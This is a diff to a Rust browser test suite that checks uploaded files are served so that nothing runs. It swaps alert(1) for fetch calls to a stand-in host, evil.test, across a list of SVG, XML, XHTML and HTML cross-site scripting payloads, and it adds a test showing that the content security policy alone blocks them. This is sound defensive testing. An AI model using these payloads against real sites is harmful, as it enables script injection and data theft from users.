@@ -21,6 +21,7 @@ const SETTLE: Duration = Duration::from_millis(40);
 fn main() -> ExitCode {
     run(&[
         ("hostile_files_run_nothing", hostile_files_run_nothing),
+        ("the_policy_alone_holds_them", the_policy_alone_holds_them),
         ("pictures_show", pictures_show),
         ("sound_and_video_play", sound_and_video_play),
         ("predicates_agree", predicates_agree),
@@ -52,6 +53,7 @@ fn shows(visitor: &mut Tab, headers: Vec<(String, String)>, body: &[u8]) -> bool
 
 /// Opens a file; what ran, and where the browser asked for more.
 fn open(visitor: &mut Tab, headers: Vec<(String, String)>, body: &[u8]) -> (Vec<String>, Vec<String>) {
+    let _ = visitor.requests();
     let _ = shows(visitor, headers, body);
     // Not by the page's clock: where no script runs, none of its timers does.
     std::thread::sleep(SETTLE);
@@ -68,30 +70,40 @@ fn open(visitor: &mut Tab, headers: Vec<(String, String)>, body: &[u8]) -> (Vec<
     (ran, requests)
 }
 
-/// Bodies that run where a browser takes them for what they are.
+/// Bodies that run where a browser takes them for what they are, and then ask another host: in a sandbox a dialog would
+/// be no news.
 const HOSTILE: &[(&str, &str)] = &[
-    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
-    ("b.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
-    ("c.svg", "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>"),
+    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"https://evil.test/ran\")'/>"),
+    (
+        "b.svg",
+        "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch(\"https://evil.test/ran\")</script></svg>",
+    ),
+    (
+        "c.svg",
+        "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>fetch(\"https://evil.test/ran\")</s:script></s:svg>",
+    ),
     (
         "d.svg",
-        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>alert(1)&lt;/script>'/></foreignObject></svg>",
+        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>fetch(\"https://evil.test/ran\")&lt;/script>'/></foreignObject></svg>",
     ),
     (
         "e.svg",
-        "<!DOCTYPE svg [<!ENTITY s '<script xmlns=\"http://www.w3.org/2000/svg\">alert(1)</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&s;</svg>",
+        "<!DOCTYPE svg [<!ENTITY s '<script xmlns=\"http://www.w3.org/2000/svg\">fetch(\"https://evil.test/ran\")</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&s;</svg>",
     ),
     (
         "f.svg",
-        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
+        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'fetch(\"https://evil.test/ran\")'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
     ),
-    ("g.xml", "<?xml version='1.0'?><a><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></a>"),
+    (
+        "g.xml",
+        "<?xml version='1.0'?><a><script xmlns='http://www.w3.org/1999/xhtml'>fetch(\"https://evil.test/ran\")</script></a>",
+    ),
     (
         "h.xhtml",
-        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body onload='alert(1)'/></html>",
+        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body onload='fetch(\"https://evil.test/ran\")'/></html>",
     ),
-    ("i.html", "<!doctype html><script>alert(1)</script>"),
-    ("j.html", "<!doctype html><img src=x onerror=alert(1)>"),
+    ("i.html", "<!doctype html><script>fetch(\"https://evil.test/ran\")</script>"),
+    ("j.html", "<!doctype html><img src=x onerror=fetch(\"https://evil.test/ran\")>"),
     (
         "k.svg",
         "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.test/x.png'/><style>@import url(https://evil.test/x.css)</style></svg>",
@@ -128,6 +140,30 @@ fn hostile_files_run_nothing(world: &World) {
     for (name, _) in HOSTILE {
         assert!(ran_without.contains(*name), "the control: {name} does nothing without the headers");
     }
+}
+
+/// Opened all the same, as where somebody drops `Content-Disposition`: the policy of the headers lets nothing run.
+fn the_policy_alone_holds_them(world: &World) {
+    let mut visitor = world.visitor();
+    let (mut wrong, mut opened) = (Vec::new(), 0);
+    for (name, body) in HOSTILE {
+        let Some(up) = accepted(name, body.as_bytes()).or_else(|| accepted("x", body.as_bytes())) else {
+            continue;
+        };
+        let inline = headers(&up).into_iter().filter(|(name, _)| name != "content-disposition");
+        let inline: Vec<_> = inline.collect();
+        let without: Vec<_> =
+            inline.iter().filter(|(name, _)| name != "content-security-policy").cloned().collect();
+        let (ran, requests) = open(&mut visitor, inline, body.as_bytes());
+        if !ran.is_empty() || !requests.is_empty() {
+            wrong.push(format!("{name}: {ran:?} {requests:?}"));
+        }
+        // The control: the same without the policy.
+        let (ran, requests) = open(&mut visitor, without, body.as_bytes());
+        opened += usize::from(!ran.is_empty() || !requests.is_empty());
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+    assert!(opened >= 6, "the control: only {opened} do something without the policy");
 }
 
 /// Benign files of some classes that Chromium shows.
